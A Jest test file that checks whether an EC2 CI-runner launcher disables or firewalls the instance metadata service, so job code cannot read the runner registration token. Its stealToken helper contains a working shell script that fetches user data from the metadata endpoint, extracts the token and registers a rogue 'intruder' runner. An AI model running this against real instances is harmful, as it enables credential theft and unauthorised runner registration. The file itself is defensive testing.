import { beforeAll, describe, expect, test } from '@jest/globals';
import { INSTANCE_PROFILE_POLICY_FILE, LAUNCHER_POLICY_FILE, readPolicy } from '../sandbox/ec2.js';
import type { Sandbox } from '../sandbox/index.js';
import { GitHubForge } from '../src/forge/github.js';
import { MemoryLog, attemptLaunch, cleanupRunOf, settle, specFor } from './helpers.js';
import { useSandbox } from './support/sandbox.js';
import { until } from './support/wait.js';

/**
 * A reusable runner's registration token is in its instance's user data, which EC2 does not let
 * anyone change while the instance runs; job code could read it from the metadata service and
 * register runners of its own for an hour. Once the runner is online the launcher turns the
 * metadata service off, except where something on the machine still needs it (an instance
 * profile's credentials, a spot machine's interruption notice). On a spot machine without a profile
 * a firewall rule keeps it for root; with a profile it stays open, as the README says.
 */

const sandbox = useSandbox();
let sb: Sandbox;

beforeAll(() => {
  sb = sandbox();
});

/**
 * A job step that looks for the registration token in the user data, as hostile job code would,
 * and registers a runner named `intruder` with it. It reaches the instance's own metadata
 * service (the address is no secret: 169.254.169.254 on EC2).
 */
function stealToken(imds: string): string {
  const server = new URL(sb.env.GITHUB_SERVER_URL!).origin;
  return [
    `imds='${imds}'`,
    `t=$(curl -sf --max-time 3 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' "$imds/latest/api/token") ||`,
    `  { echo 'metadata: closed'; exit 0; }`,
    `ud=$(curl -sf --max-time 3 -H "X-aws-ec2-metadata-token: $t" "$imds/latest/user-data") ||`,
    `  { echo 'user data: unreadable'; exit 0; }`,
    `tok=$(printf '%s\\n' "$ud" | awk '/^CML_RUNNER_SETTINGS$/{f=0} f{print} /CML_RUNNER_SETTINGS.$/{f=1}' |`,
    `  base64 -d | tr '\\0' '\\n' | grep -A1 -x RUNNER_TOKEN | tail -n1)`,
    `[ -n "$tok" ] || { echo 'token: not found'; exit 0; }`,
    `echo 'token: found'`,
    `body=$(printf '{"token":"%s","scope":"octo-org/ml","name":"intruder","labels":[]}' "$tok")`,
    `curl -s -o /dev/null -w 'register: %{http_code}\\n' -X POST -H 'content-type: application/json' \\`,
    `  -d "$body" '${server}/_runner/register'`,
  ].join('\n');
}

async function runStealer(inputs: Record<string, string>) {
  const label = `cml-imds-${Math.random().toString(16).slice(2, 8)}`;
  const { result, error } = await attemptLaunch(sb, { single: 'false', 'idle-timeout': '0', labels: label, ...inputs });
  expect(error).toBeUndefined();
  const id = result!.runners[0]!.machine.id;
  // As the launch returns: the metadata options as they apply now, not a change still pending.
  const { metadataOptions, metadataChange } = sb.ec2.instance(id)!;
  const atLaunch = { endpoint: metadataOptions.httpEndpoint, pending: metadataChange !== undefined };
  const job = sb.github.queueJob({
    owner: 'octo-org',
    repo: 'ml',
    labels: [label],
    script: stealToken(`${sb.ec2.url}/_imds/${id}`),
  });
  const done = await sb.github.waitJob(job.id, 30_000);
  expect(done).toMatchObject({ status: 'completed', conclusion: 'success' });
  return { instance: sb.ec2.instance(id)!, log: done.log, atLaunch, label };
}

describe('the metadata service once a reusable runner is online', () => {
  test('is off: job code finds no user data, and no runner of its own registers', async () => {
    const { instance, log, atLaunch } = await runStealer({});
    // Off (applied, not only asked for) before the launch hands the runner over to its jobs.
    expect(atLaunch).toEqual({ endpoint: 'disabled', pending: false });
    expect(instance.metadataOptions.httpEndpoint).toBe('disabled');
    expect(sb.ec2.calls.filter((c) => c.action === 'ModifyInstanceMetadataOptions').at(-1)).toMatchObject({
      status: 200,
      params: { InstanceId: instance.id },
    });
    expect(log).toContain('metadata: closed');
    expect(log).not.toContain('token: found');
    expect(sb.github.runners().map((r) => r.name)).not.toContain('intruder');
    await cleanupRunOf(sb);
    expect(await settle(sb)).toEqual([]);
  });

  test.each([
    ['an on-demand machine', {}],
    ['a spot machine', { spot: 'true' }],
  ])(
    'stays on and open to job code with aws-instance-profile on %s (its jobs need the credentials): the token can be read, as the README says',
    async (_kind, inputs: Record<string, string>) => {
      sb.ec2.iam.setLauncherPolicies(readPolicy(LAUNCHER_POLICY_FILE), readPolicy(INSTANCE_PROFILE_POLICY_FILE));
      try {
        const { instance, log } = await runStealer({ ...inputs, 'aws-instance-profile': 'cml-runner-profile' });
        expect(instance.metadataOptions.httpEndpoint).toBe('enabled');
        expect(sb.ec2.consoleOf(instance.id)).not.toContain('firewall rule');
        expect(log).toContain('token: found');
        expect(log).toContain('register: 2');
        const intruder = sb.github.runners().find((r) => r.name === 'intruder');
        expect(intruder).toBeDefined();
        await new GitHubForge(specFor(sb, {}).forge, new MemoryLog()).deleteRunner(intruder!.id);
      } finally {
        sb.ec2.iam.setLauncherPolicies();
      }
      await cleanupRunOf(sb);
      expect(await settle(sb)).toEqual([]);
    },
  );

  test('stays on for a spot machine, for root only: job code is refused, the spot watch still works', async () => {
    const { instance, log, atLaunch, label } = await runStealer({ spot: 'true' });
    expect(instance.spot).toBe(true);
    expect(atLaunch).toEqual({ endpoint: 'enabled', pending: false });
    expect(instance.metadataOptions.httpEndpoint).toBe('enabled');
    // The startup script's firewall rule refuses the runner's user (a sandbox running as root
    // gives that user a uid of its own).
    expect(sb.ec2.consoleOf(instance.id)).toContain(
      'cml-runner: the metadata service answers root only: a firewall rule refuses the runner user cml-runner\n',
    );
    expect(log).toContain('metadata: closed');
    expect(log).not.toContain('token: found');
    expect(sb.github.runners().map((r) => r.name)).not.toContain('intruder');

    // Root's spot watch still reads the notice and stops the runner mid-job.
    const job = sb.github.queueJob({ owner: 'octo-org', repo: 'ml', labels: [label], script: 'sleep 30' });
    await until('the job runs', () => sb.github.job(job.id).status === 'in_progress', 30_000);
    const interruption = sb.ec2.interruptSpot(instance.id, { noticeMs: 10_000 });
    const done = await sb.github.waitJob(job.id, 20_000);
    expect(done).toMatchObject({ status: 'completed', conclusion: 'failure' });
    expect(done.log).toContain('##[error]The runner has received a shutdown signal.');
    expect(sb.ec2.consoleOf(instance.id)).toMatch(/cml-runner: spot interruption notice: AWS will terminate/);
    await interruption;
    await until('the instance is terminated', () => sb.ec2.instance(instance.id)!.state === 'terminated', 30_000);
    await cleanupRunOf(sb);
    expect(await settle(sb)).toEqual([]);
  }, 60_000);
});
